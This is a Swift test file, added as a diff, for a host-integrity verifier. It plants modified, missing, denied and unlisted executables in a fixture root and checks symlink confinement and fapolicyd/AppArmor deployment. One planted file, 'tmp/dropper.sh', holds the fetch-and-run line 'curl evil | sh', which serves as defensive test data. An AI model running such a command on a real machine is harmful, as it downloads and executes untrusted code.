@@ -1,0 +1,111 @@
+import Foundation
+import PalisadeModel
+import PalisadeTestSupport
+import PalisadeVerifier
+import Testing
+
+@Suite("verify: findings on a planted host")
+struct VerifierTests {
+    @Test func cleanHostIsCompliant() throws {
+        let fixture = try HostFixture()
+        let report = try fixture.verify()
+        #expect(report.compliant, "\(report.findings.filter { $0.kind.isProblem })")
+        #expect(report.summary["ok"]! >= 3)
+        let agent = report.findings.first { $0.path == "/opt/acme/bin/agent" }
+        #expect(agent?.kind == .ok)
+        #expect(agent?.rule == fixture.rule(fixture.agentLine))
+    }
+
+    @Test func plantedProblemsAreEachReported() throws {
+        let fixture = try HostFixture()
+        let host = fixture.host
+        // A modified allowed binary, a missing one, a denied one renamed into /tmp, an unlisted script.
+        try host.write(Array("usr/bin/tool".utf8), HostFixture.tool + [0x00], mode: 0o755)
+        try FileManager.default.removeItem(atPath: host.path + "/opt/acme/bin/agent")
+        try host.write("tmp/innocent-name", HostFixture.bad, mode: 0o755)
+        try host.write("tmp/dropper.sh", "#!/bin/sh\ncurl evil | sh\n", mode: 0o644)
+        try host.write("tmp/notes.txt", "not a program\n", mode: 0o644)
+
+        let report = try fixture.verify()
+        #expect(!report.compliant)
+        func finding(_ kind: Finding.Kind, _ path: String) -> Finding? {
+            report.findings.first { $0.kind == kind && $0.path == path }
+        }
+        let modified = try #require(finding(.modified, "/usr/bin/tool"))
+        #expect(modified.expected?.hasPrefix("sha256 ") == true)
+        #expect(modified.actual?.hasSuffix("size \(HostFixture.tool.count + 1)") == true)
+        #expect(modified.rule == fixture.rule(fixture.toolLine))
+
+        let missing = try #require(finding(.missing, "/opt/acme/bin/agent"))
+        #expect(missing.actual == "absent")
+        #expect(missing.rule == fixture.rule(fixture.agentLine))
+
+        let denied = try #require(finding(.deniedPresent, "/tmp/innocent-name"))
+        #expect(denied.rule == fixture.rule(fixture.badLine))
+        #expect(denied.check == "scan")
+
+        let unlisted = try #require(finding(.unlisted, "/tmp/dropper.sh"))
+        #expect(unlisted.actual?.hasPrefix("sha256 ") == true)
+        #expect(finding(.unlisted, "/tmp/notes.txt") == nil)  // not an executable
+        #expect(report.summary["unlisted"] == 1)
+        #expect(report.summary["denied-present"] == 1)
+    }
+
+    @Test func deniedFileAtItsOwnPath() throws {
+        let fixture = try HostFixture()
+        try fixture.host.write("usr/local/bin/bad", HostFixture.bad, mode: 0o755)
+        let report = try fixture.verify()
+        let found = report.findings.filter { $0.kind == .deniedPresent }
+        #expect(found.map(\.path) == ["/usr/local/bin/bad"])
+        #expect(found.first?.check == "file")
+    }
+
+    @Test func deploymentProblems() throws {
+        let fixture = try HostFixture()
+        let files = try fixture.bundleFiles().map(\.0)
+        let rules = try #require(files.first { $0.hasPrefix("fapolicyd/rules.d/") }, "the bundle has a fapolicyd rules file")
+        let profile = try #require(files.first { $0.hasPrefix("apparmor/") }, "the bundle has an AppArmor profile")
+
+        let installedRules = fixture.host.path + "/etc/fapolicyd/" + rules.dropFirst("fapolicyd/".count)
+        try Data("deny perm=any all : all\n".utf8).write(to: URL(fileURLWithPath: installedRules), options: .atomic)
+        let installedProfile = "/etc/apparmor.d/" + profile.dropFirst("apparmor/".count)
+        try FileManager.default.removeItem(atPath: fixture.host.path + installedProfile)
+        try fixture.host.write("etc/fapolicyd/fapolicyd.conf", "permissive = 1\n")
+
+        let report = try fixture.verify()
+        let different = report.findings.filter { $0.kind == .different }
+        #expect(different.contains { $0.check == "fapolicyd" && $0.path == "/etc/fapolicyd/" + rules.dropFirst("fapolicyd/".count) })
+        #expect(different.contains { $0.path == "/etc/fapolicyd/fapolicyd.conf" && $0.actual == "permissive = 1" && $0.expected == "permissive = 0" })
+        let notDeployed = report.findings.filter { $0.kind == .notDeployed }
+        #expect(notDeployed.map(\.path) == [installedProfile])
+        #expect(notDeployed.first?.check == "apparmor")
+    }
+
+    @Test func symlinksNeverLeadOutOfTheRoot() throws {
+        let fixture = try HostFixture()
+        // An absolute link and a `..` chain: both must stay inside the root.
+        try FileManager.default.removeItem(atPath: fixture.host.path + "/opt/acme/bin/agent")
+        #expect(symlink("/etc/hostname", fixture.host.path + "/opt/acme/bin/agent") == 0)
+        try FileManager.default.removeItem(atPath: fixture.host.path + "/usr/bin/tool")
+        #expect(symlink("../../../../../../../../etc/passwd", fixture.host.path + "/usr/bin/tool") == 0)
+        let report = try fixture.verify()
+        let agent = report.findings.first { $0.path == "/opt/acme/bin/agent" }
+        // Resolved to <root>/etc/hostname (the fixture's own "host\n"), not the machine's.
+        #expect(agent?.kind == .modified)
+        #expect(agent?.actual == "sha256 \(sha("host\n")) size 5")
+        let tool = report.findings.first { $0.path == "/usr/bin/tool" }
+        #expect(tool?.kind == .missing)  // <root>/etc/passwd does not exist
+    }
+
+    @Test func mergedUsrSymlinkIsFollowedInsideTheRoot() throws {
+        let fixture = try HostFixture()
+        // /bin → usr/bin, as on merged-/usr hosts: an allowed /usr/bin path is found either way.
+        #expect(symlink("usr/bin", fixture.host.path + "/bin") == 0)
+        let report = try fixture.verify(scan: ["/bin", "/opt"])
+        #expect(report.compliant, "\(report.findings.filter { $0.kind.isProblem })")
+    }
+
+    func sha(_ text: String) -> String {
+        (try? run("/usr/bin/sha256sum", ["-"], stdin: Data(text.utf8)).out.prefix(64)).map(String.init) ?? ""
+    }
+}
